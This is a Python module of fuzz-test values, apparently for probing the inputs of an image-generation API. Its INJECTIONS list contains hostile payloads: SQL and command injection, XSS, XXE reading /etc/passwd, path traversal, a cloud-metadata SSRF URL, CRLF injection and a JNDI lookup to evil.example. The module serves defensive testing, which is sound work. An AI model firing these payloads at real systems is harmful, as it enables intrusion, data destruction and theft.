"""Bad values that people and fuzzers have broken other APIs with, each of them sent to every input."""

NUMBERS = [
    0, -1, 1, 2, 10**20, -(10**20), 2**31, 2**31 - 1, 2**32, 2**53, 2**53 + 1, 2**63, 2**63 - 1, -(2**63),
    -(2**63) - 1, 2**64, 10**400, 0.1, -0.0, 1.5, 1e22, 1e308, -1e308, 5e-324, 1e16, 3.0,
]  # fmt: skip
LITERALS = [None, True, False]
STRUCTURES = [
    [], {}, [[]], [{}], {"": ""}, {"a": None}, [None], [1, "a", None], {"prompt": "a cat"}, ["a cat"], {"$ne": ""},
    {"$gt": 0}, {"__proto__": {"x": 1}}, {"constructor": {"prototype": {}}}, {"length": 1}, [[[[[[[[[[[[]]]]]]]]]]]],
    {"a": {"b": {"c": {}}}}, {"key": "\0"}, {"\0": "value"}, {"key": "\ud800"}, {"\udfff": "value"}, ["\0"],
    {"template": {}}, {"template": []}, {"template": "\0"}, {"template": "\ud800"}, {"x" * 20_000: 1}, ["x"] * 5_000,
]  # fmt: skip
BLANKS = [
    "", " ", "\t", "\n", "\r\n", "\v", "\f", "\x1c", "\x85", "\xa0", "\u2000", "\u2028", "\u2029", "\u3000",
    "  \t\n  ",
]  # fmt: skip
CONTROLS = [
    "\0", "a\0b", "\0a", "a\0", "\x01", "\x07", "\x08", "\x1b[31m", "\x7f", "\x80", "\x9f", "a\rb", "a\nb", "a\r\nb",
]  # fmt: skip
SURROGATES = ["\ud800", "\udbff", "\udc00", "\udfff", "a\ud83d", "\ude00a", "\ude00\ud83d", "\ud800\0"]
UNICODE = [
    "\ufeff", "\ufeffa", "\u200b", "\u200d", "\u202e" + "abc", "\u2066", "\ufffd", "\ufffe", "\uffff", "\U0010ffff",
    "\U0001f600", "👩‍👩‍👧‍👦", "e\u0301" * 10, "Z̸̡̢̛̗̘̙̜̝", "İ", "ß", "ǅ", "ﬁ", "١٢٣", "１２３", "½", "Ⅷ", "true", "𝐭𝐫𝐮𝐞",
    "\u0e33" * 100, "שלום", "\U000e0001", "Ω≈ç√∫˜µ≤", "ﷺ" * 50,
]  # fmt: skip
NUMERALS = [
    "0", "-0", "+1", "1.0", "1e2", "0x10", "0b1", "0o7", "1_000", "1,000", " 1", "1 ", "1\n", "NaN", "Infinity",
    "-Infinity", "inf", "1e999", "-1e999", "9" * 20, "9" * 400, "-9223372036854775809", "2147483648", "--1", "1-1",
    "01", "",
]  # fmt: skip
WORDS = [
    "null", "None", "nil", "undefined", "True", "FALSE", "yes", "on", "off", "t", "[object Object]", "[]", "{}",
    "pending ", "PENDING", "status", "general,comic", "1:1:1", "16:9\n", "16/9", "__class__", "constructor",
    "hasOwnProperty", "COM1", "..",
]  # fmt: skip
INJECTIONS = [
    "' OR 1=1 --", "'; DROP TABLE generations; --", "1; SELECT pg_sleep(10)", "\\", "\\'", "$$", "%", "%s", "%n%n%n",
    "%(x)s", "_", "{0}", "{prompt}", "{0.__class__}", "${7*7}", "{{7*7}}", "<%= 7*7 %>", "`id`", "$(id)", "| id",
    "; id", "&& id", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "=cmd|' /C calc'!A0", "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd", "..\\..\\windows", "file:///etc/passwd", "http://169.254.169.254/", "//evil.example",
    "\r\nSet-Cookie: a=b", "%0d%0aSet-Cookie:a=b", "a\r\n\r\nHTTP/1.1 200 OK", "*)(uid=*",
    "${jndi:ldap://evil.example/a}", "(a+)+$", "*" * 100, "%00", "%c0%af", "%ff", "%zz", "%", "+", "#", "?", "&", "=",
    ";", ":", "/", "//", "@", "~", "^", '"', "'",
]  # fmt: skip
LONG = ["x" * 5_001, "x" * 70_000, "a " * 40_000, "\n" * 10_000, "😀" * 6_000, "%00" * 3_000, "../" * 3_000]

TEXTS = [*BLANKS, *CONTROLS, *SURROGATES, *UNICODE, *NUMERALS, *WORDS, *INJECTIONS, *LONG]
VALUES = [*LITERALS, *NUMBERS, *STRUCTURES, *TEXTS]
